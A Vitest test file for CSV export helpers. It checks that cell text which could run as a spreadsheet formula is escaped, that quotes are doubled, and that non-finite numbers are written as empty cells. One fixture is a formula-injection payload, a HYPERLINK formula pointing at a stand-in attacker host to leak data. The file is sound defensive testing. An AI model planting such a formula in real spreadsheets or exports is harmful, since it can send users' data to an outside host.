import { describe, expect, it } from 'vitest';
import { csvNumberCell, csvTextCell } from './csv';

describe('CSV cells', () => {
  it('keeps text that could run as a formula as text', () => {
    expect(csvTextCell('=HYPERLINK("http://evil.example/?leak","click")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?leak"",""click"")"',
    );
    for (const start of ['+', '-', '@', '\t', '\r']) {
      expect(csvTextCell(`${start}x`).startsWith(`"'${start}`)).toBe(true);
    }
  });

  it('quotes ordinary text and doubles its quotes', () => {
    expect(csvTextCell('plant/line1 "t"')).toBe('"plant/line1 ""t"""');
  });

  it('writes numbers as numbers, and nothing for what is not finite', () => {
    expect(csvNumberCell(-3.25)).toBe('-3.25');
    expect(csvNumberCell(Number.NaN)).toBe('');
  });
});
